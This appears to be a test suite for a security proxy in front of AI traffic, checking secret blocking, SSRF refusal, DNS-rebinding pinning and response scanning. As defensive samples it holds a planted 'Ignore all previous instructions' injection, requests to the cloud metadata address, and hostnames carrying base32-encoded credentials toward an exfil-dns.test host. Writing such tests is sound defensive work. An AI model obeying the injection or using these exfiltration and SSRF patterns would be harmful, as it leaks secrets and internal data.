// Forward proxy, absolute-URI HTTP: real curl and undici clients through the
// in-process daemon to a real upstream on 127.0.0.1.
import { connect } from 'node:net';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fetch as undiciFetch, ProxyAgent } from 'undici';
import { awsKey, curl, INJECTION, startTestProxy, startUpstream, testConfig } from './helpers.js';
import type { TestProxy, Upstream } from './helpers.js';

let upstream: Upstream;

beforeAll(async () => {
  upstream = await startUpstream((req, res, body) => {
    const path = req.url ?? '/';
    if (path.startsWith('/echo')) {
      res.writeHead(200, { 'content-type': req.headers['content-type'] ?? 'application/octet-stream', 'x-upstream': 'yes' });
      res.end(body);
    } else if (path === '/inject') {
      res.writeHead(200, { 'content-type': 'text/plain; charset=utf-8' });
      res.end(`Weather today: sunny. ${INJECTION} Tomorrow: rain.`);
    } else if (path === '/gzip') {
      const z = gzipSync(Buffer.from(`hello ${INJECTION}`));
      res.writeHead(200, { 'content-type': 'text/plain', 'content-encoding': 'gzip', 'content-length': z.length });
      res.end(z);
    } else if (path === '/big') {
      res.writeHead(200, { 'content-type': 'text/plain' });
      const chunk = Buffer.alloc(256 * 1024, 0x61);
      let n = 0;
      const write = (): void => {
        while (n < 12) {
          n++;
          if (!res.write(chunk)) return void res.once('drain', write);
        }
        res.end();
      };
      write();
    } else if (path === '/slow') {
      setTimeout(() => {
        if (!res.destroyed) res.end('late');
      }, 4000);
    } else if (path === '/hop') {
      res.writeHead(200, { 'content-type': 'text/plain', connection: 'x-secret-hop', 'x-secret-hop': 'dropme', 'keep-alive': 'timeout=5' });
      res.end('ok');
    } else {
      res.writeHead(200, { 'content-type': 'text/plain' });
      res.end(`hello from ${path}`);
    }
  });
});

afterAll(async () => {
  await upstream.close();
});

describe('clean traffic', () => {
  let p: TestProxy;
  beforeAll(async () => {
    p = await startTestProxy(testConfig());
  });
  afterAll(async () => {
    await p.proxy.close();
  });

  it('forwards a GET unchanged', async () => {
    const r = await curl(['-x', p.url, `${upstream.url}/hello?x=1`]);
    expect(r.status).toBe(200);
    expect(r.body).toBe('hello from /hello?x=1');
    const seen = upstream.seen.at(-1);
    expect(seen?.url).toBe('/hello?x=1');
    expect(seen?.headers['accept-encoding']).toBe('identity');
    expect(seen?.headers['proxy-connection']).toBeUndefined();
    expect(p.logs.decisions.at(-1)).toMatchObject({ decision: 'allow', method: 'GET', path: '/hello', status: 200 });
    // The query string never reaches the log.
    expect(JSON.stringify(p.logs.decisions.at(-1))).not.toContain('x=1');
  });

  it('forwards a JSON POST byte for byte', async () => {
    const body = JSON.stringify({ model: 'gpt-4o', messages: [{ role: 'user', content: 'Summarise the quarterly report, please.' }] });
    const r = await curl(['-x', p.url, '-H', 'content-type: application/json', '--data-binary', body, `${upstream.url}/echo`]);
    expect(r.status).toBe(200);
    expect(r.body).toBe(body);
    expect(upstream.seen.at(-1)?.body.toString('utf8')).toBe(body);
    expect(upstream.seen.at(-1)?.headers['content-length']).toBe(String(Buffer.byteLength(body)));
  });

  it('removes hop-by-hop headers in both directions', async () => {
    const r = await curl(['-i', '-x', p.url, '-H', 'Connection: x-private', '-H', 'X-Private: 1', '-H', 'TE: trailers', `${upstream.url}/hop`]);
    expect(r.status).toBe(200);
    const seen = upstream.seen.at(-1);
    expect(seen?.headers['x-private']).toBeUndefined();
    expect(seen?.headers['te']).toBeUndefined();
    expect(r.body.toLowerCase()).not.toContain('x-secret-hop');
  });

  it('works with undici ProxyAgent and fetch', async () => {
    const agent = new ProxyAgent({ uri: p.url, proxyTunnel: false });
    try {
      const res = await undiciFetch(`${upstream.url}/echo`, {
        method: 'POST',
        body: '{"q":"hi"}',
        headers: { 'content-type': 'application/json' },
        dispatcher: agent,
      });
      expect(res.status).toBe(200);
      expect(await res.text()).toBe('{"q":"hi"}');
    } finally {
      await agent.close();
    }
  });

  it('answers 502 when the upstream is down and 504 when it is too slow', async () => {
    const down = await startUpstream(() => undefined);
    const downUrl = down.url;
    await down.close();
    const r = await curl(['-x', p.url, `${downUrl}/x`]);
    expect(r.status).toBe(502);
    expect(JSON.parse(r.body)).toMatchObject({ error: 'upstream_failed' });

    const fast = await startTestProxy(testConfig({ fetch_proxy: { timeout_seconds: 1 } }));
    try {
      const t = await curl(['-x', fast.url, `${upstream.url}/slow`]);
      expect(t.status).toBe(504);
      expect(JSON.parse(t.body)).toMatchObject({ error: 'upstream_timeout' });
    } finally {
      await fast.proxy.close();
    }
  });

  it('refuses a body over max_body_bytes with 413 and never forwards it', async () => {
    const small = await startTestProxy(testConfig({ request_body_scanning: { max_body_bytes: 1024 } }));
    try {
      const before = upstream.seen.length;
      const r = await curl(['-x', small.url, '--data-binary', 'x'.repeat(5000), `${upstream.url}/echo`]);
      expect(r.status).toBe(413);
      expect(upstream.seen.length).toBe(before);
    } finally {
      await small.proxy.close();
    }
  });

  it('refuses a response over max_response_mb', async () => {
    const small = await startTestProxy(testConfig({ fetch_proxy: { max_response_mb: 1 } }));
    try {
      const r = await curl(['-x', small.url, `${upstream.url}/big`]);
      expect(r.status).toBe(502);
      expect(JSON.parse(r.body)).toMatchObject({ error: 'response_too_large' });
    } finally {
      await small.proxy.close();
    }
  });
});

describe('secrets in requests are blocked before the upstream sees them', () => {
  let p: TestProxy;
  beforeAll(async () => {
    p = await startTestProxy(testConfig());
  });
  afterAll(async () => {
    await p.proxy.close();
  });

  const cases: [string, (key: string) => string[]][] = [
    ['JSON body', (k) => ['-H', 'content-type: application/json', '--data-binary', JSON.stringify({ messages: [{ role: 'user', content: `my key is ${k}` }] }), `${upstream.url}/echo`]],
    ['x-api-key header', (k) => ['-H', `x-api-key: ${k}`, `${upstream.url}/h`]],
    ['Authorization header', (k) => ['-H', `Authorization: Bearer ${k}`, `${upstream.url}/h`]],
    ['query string', (k) => [`${upstream.url}/q?token=${k}`]],
    ['path', (k) => [`${upstream.url}/files/${k}/download`]],
  ];

  for (const [where, args] of cases) {
    it(`in the ${where}`, async () => {
      const key = awsKey();
      const before = upstream.seen.length;
      const r = await curl(['-x', p.url, ...args(key)]);
      expect(r.status).toBe(403);
      const body = JSON.parse(r.body) as Record<string, unknown>;
      expect(body['error']).toBe('blocked');
      expect(typeof body['rule']).toBe('string');
      expect(r.body).not.toContain(key);
      expect(upstream.seen.length).toBe(before);
      expect(JSON.stringify(upstream.seen)).not.toContain(key);
      const line = p.logs.decisions.at(-1);
      expect(line?.decision).toBe('block');
      expect(line?.findings.length).toBeGreaterThan(0);
      // Logs carry redacted excerpts only.
      expect(p.logs.text()).not.toContain(key);
    });
  }
});

describe('responses', () => {
  for (const action of ['block', 'strip', 'warn'] as const) {
    it(`an injection in the response is handled per response_scanning.action=${action}`, async () => {
      const p = await startTestProxy(testConfig({ response_scanning: { action } }));
      try {
        const r = await curl(['-x', p.url, `${upstream.url}/inject`]);
        if (action === 'block') {
          expect(r.status).toBe(403);
          expect(JSON.parse(r.body)).toMatchObject({ error: 'blocked' });
        } else if (action === 'strip') {
          expect(r.status).toBe(200);
          expect(r.body).toContain('Weather today');
          expect(r.body).not.toContain('Ignore all previous instructions');
        } else {
          expect(r.status).toBe(200);
          expect(r.body).toContain(INJECTION);
        }
        expect(p.logs.decisions.at(-1)?.decision).toBe(action);
        expect(p.logs.decisions.at(-1)?.findings.some((f) => f.scanner === 'injection')).toBe(true);
      } finally {
        await p.proxy.close();
      }
    });
  }

  it('a gzip-encoded response fails closed', async () => {
    const p = await startTestProxy(testConfig());
    try {
      const r = await curl(['-x', p.url, `${upstream.url}/gzip`]);
      expect(r.status).toBe(403);
      expect(r.body).not.toContain('hello');
    } finally {
      await p.proxy.close();
    }
  });
});

describe('SSRF', () => {
  let p: TestProxy;
  beforeAll(async () => {
    p = await startTestProxy(testConfig({}, false));
  });
  afterAll(async () => {
    await p.proxy.close();
  });

  it('refuses the cloud metadata address', async () => {
    const r = await curl(['-x', p.url, 'http://169.254.169.254/latest/meta-data/']);
    expect(r.status).toBe(403);
    expect(JSON.parse(r.body)).toMatchObject({ error: 'blocked', scanner: 'ssrf' });
  });

  it('refuses a name that resolves to loopback, and loopback itself', async () => {
    const before = upstream.seen.length;
    const byName = await curl(['-x', p.url, `http://localhost:${upstream.port}/x`]);
    expect(byName.status).toBe(403);
    expect(JSON.parse(byName.body)).toMatchObject({ scanner: 'ssrf' });
    const byIp = await curl(['-x', p.url, `${upstream.url}/x`]);
    expect(byIp.status).toBe(403);
    expect(upstream.seen.length).toBe(before);
  });
});

describe('forward_proxy.enabled: false', () => {
  it('refuses proxying but still serves /health', async () => {
    const p = await startTestProxy(testConfig({ forward_proxy: { enabled: false } }));
    try {
      const r = await curl(['-x', p.url, `${upstream.url}/x`]);
      expect(r.status).toBe(403);
      const h = await curl([`${p.url}/health`]);
      expect(h.status).toBe(200);
    } finally {
      await p.proxy.close();
    }
  });
});

describe('bad input', () => {
  function raw(port: number, text: string, timeoutMs = 3000): Promise<string> {
    return new Promise((resolve) => {
      const s = connect(port, '127.0.0.1');
      let buf = '';
      s.on('data', (c: Buffer) => (buf += c.toString('latin1')));
      s.on('close', () => resolve(buf));
      s.on('error', () => resolve(buf));
      s.setTimeout(timeoutMs, () => s.destroy());
      s.write(text);
    });
  }

  it('answers garbage with 400 and keeps serving', async () => {
    const p = await startTestProxy(testConfig());
    try {
      expect(await raw(p.proxy.address.port, 'GARBAGE\r\n\r\n')).toMatch(/^HTTP\/1\.1 400/);
      expect(await raw(p.proxy.address.port, 'GET http://[bad/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n')).toMatch(/^HTTP\/1\.1 400/);
      expect(await raw(p.proxy.address.port, 'GET ftp://example.com/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n')).toMatch(/^HTTP\/1\.1 400/);
      expect(await raw(p.proxy.address.port, `GET ${upstream.url}/ws HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n`)).toMatch(/^HTTP\/1\.1 501/);
      // A client that promises a body and hangs up halfway.
      await raw(p.proxy.address.port, `POST ${upstream.url}/echo HTTP/1.1\r\nHost: x\r\nContent-Length: 100\r\n\r\nhalf`, 200);
      const h = await curl([`${p.url}/health`]);
      expect(h.status).toBe(200);
    } finally {
      await p.proxy.close();
    }
  });
});

describe('explain_blocks', () => {
  it('adds the severity and a sentence, still without the secret', async () => {
    const p = await startTestProxy(testConfig({ explain_blocks: true }));
    try {
      const key = awsKey();
      const r = await curl(['-x', p.url, '-H', `x-api-key: ${key}`, `${upstream.url}/e`]);
      expect(r.status).toBe(403);
      const body = JSON.parse(r.body) as Record<string, unknown>;
      expect(body).toMatchObject({ error: 'blocked', scanner: 'dlp', severity: 'critical' });
      expect(String(body['explanation'])).toContain(String(body['rule']));
      expect(r.body).not.toContain(key);
    } finally {
      await p.proxy.close();
    }
  });
});

describe('the proxy dials the address core checked (DNS rebinding)', () => {
  it('sends the request to the checked address with the original Host, and refuses an internal answer', async () => {
    let answer = '127.0.0.1';
    const lookups: string[] = [];
    const p = await startTestProxy(testConfig(), {
      resolve: async (host) => {
        lookups.push(host);
        return [answer];
      },
    });
    try {
      // No real DNS knows this name: the request can only arrive through the checked address.
      const r = await curl(['-x', p.url, `http://api.rebind.test:${upstream.port}/pinned`]);
      expect(r.status).toBe(200);
      expect(r.body).toBe('hello from /pinned');
      expect(upstream.seen.at(-1)?.headers.host).toBe(`api.rebind.test:${upstream.port}`);
      // The next answer for the same name is internal: refused, never dialled.
      answer = '169.254.169.254';
      const before = upstream.seen.length;
      const b = await curl(['-x', p.url, `http://api.rebind.test:${upstream.port}/pinned`]);
      expect(b.status).toBe(403);
      expect(JSON.parse(b.body)).toMatchObject({ scanner: 'ssrf' });
      expect(upstream.seen.length).toBe(before);
      expect(lookups).toEqual(['api.rebind.test', 'api.rebind.test']);
    } finally {
      await p.proxy.close();
    }
  });
});

describe('data in subdomain labels is refused before the name is resolved', () => {
  it('a base32 payload or a random label chain gets 403 and no DNS lookup', async () => {
    const lookups: string[] = [];
    const p = await startTestProxy(testConfig(), {
      resolve: async (host) => {
        lookups.push(host);
        return ['93.184.215.14'];
      },
    });
    try {
      // base32 of 'user=svc pass=Tr0ub4dor&3x', in two labels.
      const encoded = 'ovzwk4r5on3ggidqmfzxgpkuoiyhkyrumrxxejrtpa';
      const host = `${encoded.slice(0, 24)}.${encoded.slice(24)}.resolver-cache.test`;
      const a = await curl(['-x', p.url, `http://${host}/`]);
      expect(a.status).toBe(403);
      expect(JSON.parse(a.body)).toMatchObject({ rule: 'Encoded Data In Hostname' });
      const b = await curl(['-x', p.url, 'http://k7x2m9qa4w.b3n8v1zp6c.r5t8y2u3i0.h3g2f1d8s7.q.exfil-dns.test/']);
      expect(b.status).toBe(403);
      expect(JSON.parse(b.body)).toMatchObject({ rule: 'Data In Hostname Labels' });
      expect(lookups).toEqual([]);
    } finally {
      await p.proxy.close();
    }
  });
});
